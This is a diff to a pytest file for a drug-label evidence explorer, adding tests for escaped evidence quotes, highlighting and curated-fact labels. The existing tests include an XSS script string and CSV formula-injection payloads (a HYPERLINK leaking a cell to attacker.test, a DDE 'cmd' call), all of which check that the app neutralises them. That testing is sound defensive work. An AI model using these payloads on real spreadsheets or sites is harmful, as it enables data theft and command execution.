@@ -10,7 +10,7 @@ import pandas as pd
 import pytest
 from bs4 import BeautifulSoup
 
-from explorer.app.render import (PAGE_SIZE, PICKER_LIMIT, claims_html, csv_data_url, csv_link_html,
+from explorer.app.render import (PAGE_SIZE, PICKER_LIMIT, claims_html, csv_data_url, csv_link_html, finding_rows_html,
                                  filters_from_query, narrow, page_count, safe_url, source_links_html, table_html)
 from explorer.audit.vocabulary import NOT_CAPTURED
 from explorer.explore.filters import FilterState
@@ -198,7 +198,7 @@ def test_claims_checked_against_label_text_show_the_labels_words_escaped_beside_
     assert soup.find("script") is None and soup.find("i") is None  # label text is third-party text too
     words = cells(fragment)[0][6]
     assert words.startswith("6.1 Clinical Trials <i>Experience</i>")
-    assert '“Rash | 4 | 1 <script>alert("label")</script>” 4%' in words
+    assert 'Rash | 4 | 1 <script>alert("label")</script> 4%' in words
     assert cells(fragment)[1][6] == ""  # no label: no words shown, nothing invented
     assert [a["href"] for a in soup.find_all("a") if "explorer-page-link" not in a.get("class", [])] == [
         "https://dailymed.nlm.nih.gov/dailymed/drugInfo.cfm?setid=s-1"]
@@ -246,3 +246,89 @@ def test_rows_csv_cells_never_run_as_spreadsheet_formulas(formula_corpus):
     assert sorted(back["name"]) == ["'+Dizziness", "'-Fainting", "'=HYPERLINK(\"http://attacker.test/?leak=\"&A1,\"Open\")",
                                     "'@SUM(1+1)*cmd|' /C calc'!A0"]
     assert back["description"].str.startswith("a ").all() and pd.api.types.is_integer_dtype(back["line"])
+
+
+# --- evidence as a reader wants it -----------------------------------------------------------------
+
+def evidence_claims(**extra) -> pd.DataFrame:
+    row = {"drug": "D", "condition": "C", "tier": "Serious", "severity": "serious", "claim": "Rash <now>",
+           "status": "label adverse reaction", "label_term": "rash", "source_file": "a.txt", "line": 3,
+           "source_url": "https://dailymed.nlm.nih.gov/dailymed/drugInfo.cfm?setid=s-1",
+           "evidence_section": "adverse_reactions", "evidence_text": "A <b>rash</b> & itching were seen in few.",
+           "evidence_marks": "2-13", "incidence_text": "2%",
+           "label_url": "https://dailymed.nlm.nih.gov/dailymed/drugInfo.cfm?setid=s-1"}
+    row.update(extra)
+    return pd.DataFrame([row])
+
+
+def test_evidence_marks_the_matched_words_after_escaping_them():
+    fragment = claims_html(evidence_claims())
+    soup = BeautifulSoup(fragment, "html.parser")
+    marked = [m.get_text() for m in soup.select(".explorer-evidence-quote mark")]
+    assert marked == ["<b>rash</b>"]  # the span is of the raw text; escaped inside the mark
+    assert soup.find("b") is None or soup.find("b").get_text() == "2%"
+    assert soup.select_one(".explorer-evidence-quote").get_text() == "A <b>rash</b> & itching were seen in few."
+
+
+@pytest.mark.parametrize("marks", ["", None, "nonsense", "30-10", "0-999", "5-8;6-9"])
+def test_evidence_with_marks_it_cannot_use_is_shown_unmarked_and_whole(marks):
+    fragment = claims_html(evidence_claims(evidence_marks=marks))
+    soup = BeautifulSoup(fragment, "html.parser")
+    quote = soup.select_one(".explorer-evidence-quote")
+    assert quote.get_text() == "A <b>rash</b> & itching were seen in few."
+    assert len(quote.select("mark")) <= 1
+
+
+def test_evidence_is_clamped_with_the_whole_passage_on_demand():
+    row_text = "Rash — Drug, N=100, %: 4; Placebo, N=98, %: 1"
+    fragment = claims_html(evidence_claims(evidence_text=row_text, evidence_marks="0-4",
+                                           match_note="incidence from Table 2 (Adverse reactions), the drug: Rash 4%"))
+    soup = BeautifulSoup(fragment, "html.parser")
+    cell = soup.select_one(".explorer-evidence-cell")
+    # the quote is clamped by the stylesheet (rows of even height); the details hold the rest
+    assert cell.select_one(".explorer-evidence-quote") is not None
+    assert "explorer-cell" not in cell.get("class", [])  # the outer 4-line clamp would hide the summary
+    details = cell.find("details")
+    assert details is not None and details.find("summary") is not None
+    items = [li.get_text() for li in details.select("li")]
+    assert items == ["Drug, N=100, %: 4", "Placebo, N=98, %: 1"]  # the columns the row's values come from
+    assert "incidence from Table 2 (Adverse reactions)" in details.get_text()
+    assert [a["href"] for a in details.find_all("a")] == ["https://dailymed.nlm.nih.gov/dailymed/drugInfo.cfm?setid=s-1"]
+
+
+def test_finding_rows_and_the_page_view_mark_the_evidence_too():
+    from explorer.app.pageview import PageText, Line, page_html
+
+    rows = evidence_claims()
+    soup = BeautifulSoup(finding_rows_html(rows), "html.parser")
+    assert [m.get_text() for m in soup.select(".explorer-evidence-quote mark")] == ["<b>rash</b>"]
+    page = page_html(PageText("a.txt", (Line(3, "- Rash <now>: a rash."),)), rows)
+    soup = BeautifulSoup(page, "html.parser")
+    assert [m.get_text() for m in soup.select(".explorer-claim .explorer-evidence-quote mark")] == ["<b>rash</b>"]
+    assert soup.select_one(".explorer-claim details") is not None
+
+
+# --- curated facts named as such --------------------------------------------------------------------
+
+def test_statuses_from_the_curated_facts_are_named_as_curated_facts_with_their_sources():
+    claims = evidence_claims(label_source="curated facts", source_url="https://www.rxlist.com/x | https://docslib.org/y")
+    claims = pd.concat([claims, evidence_claims(label_source="label text")], ignore_index=True)
+    claims = pd.concat([claims, evidence_claims(label_source=pd.NA, status=NOT_CAPTURED, source_url=pd.NA)],
+                       ignore_index=True)
+    soup = BeautifulSoup(claims_html(claims), "html.parser")
+    chips = [c.get_text() for c in soup.select("tbody .explorer-chip") if "explorer-tier" not in c.get("class", [])
+             and c.get_text() != "Serious"]
+    assert chips == ["curated facts: adverse reaction", "label adverse reaction", NOT_CAPTURED]
+    sources = [row[7] for row in cells(claims_html(claims))]
+    assert sources[0] == "curated from www.rxlist.com | docslib.org"
+    assert sources[1] == "dailymed.nlm.nih.gov"
+
+
+def test_a_claims_table_without_label_source_is_of_the_curated_facts():
+    claims = evidence_claims().drop(columns=["label_url", "evidence_text"])
+    soup = BeautifulSoup(claims_html(claims), "html.parser")
+    assert "curated facts: adverse reaction" in soup.get_text() and "label adverse reaction" not in soup.get_text()
+    from explorer.app.pageview import PageText, Line, page_html
+
+    page = page_html(PageText("a.txt", (Line(3, "- Rash <now>: a rash."),)), claims)
+    assert "curated facts: adverse reaction" in page and "label adverse reaction" not in page
